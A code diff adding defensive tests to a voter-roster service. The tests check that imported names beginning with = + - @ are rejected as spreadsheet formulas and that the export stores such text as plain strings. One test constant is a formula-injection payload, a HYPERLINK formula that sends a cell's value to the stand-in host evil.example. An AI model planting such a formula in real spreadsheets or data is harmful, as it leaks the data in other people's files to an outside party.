@@ -67,3 +67,35 @@ def test_an_openid_of_a_wechat_only_voter_is_refused(load, db):
     book = mini()
     book["选民"][0][6] = "oWeChatOnly"
     assert problems(load(book)) == ["选民 表第 2 行，微信OpenID：已绑定到一位微信用户"]
+
+
+EVIL = '=HYPERLINK("http://evil.example/?p="&C3,"赵桂英")'
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_refused(load, db, tmp_path):
+    import csv
+
+    path = tmp_path / "v.csv"
+    with open(path, "w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([["编码", "姓名", "手机"], ["P7", EVIL, "13900001111"], ["P8", "@SUM(1)", ""],
+                                  ["P9", "钱德福", "13900005678"]])
+    assert problems(load(path)) == ["选民 表第 2 行，姓名：不能以 = + - @ 开头（表格软件会把它当作公式）",
+                                   "选民 表第 3 行，姓名：不能以 = + - @ 开头（表格软件会把它当作公式）"]
+    assert db.scalar(select(Voter).where(Voter.code == "P9")) is None
+
+
+def test_the_export_writes_formula_like_text_as_text_from_the_second_row(load, ext, db, tmp_path):
+    from openpyxl import load_workbook
+
+    from bot.services.roster_io.export import write_export
+
+    assert not load(mini()).problems
+    p1 = db.scalar(select(Voter).where(Voter.code == "P1"))
+    p1.name = EVIL  # got into the database some other way
+    db.commit()
+    write_export(db, tmp_path / "out.xlsx", ext.phones)
+    ws = load_workbook(tmp_path / "out.xlsx")["选民"]
+    assert [ws.cell(r, 1).value for r in (2, 3, 4)] == ["P1", "P2", "P3"]
+    assert (ws.cell(2, 2).value, ws.cell(2, 2).data_type) == (EVIL, "s")
+    assert ws.cell(2, 3).value == "13900001234" and ws.cell(2, 3).number_format == "@"
+    assert ws.cell(150, 3).number_format == "@"  # blank rows below still take phones as text
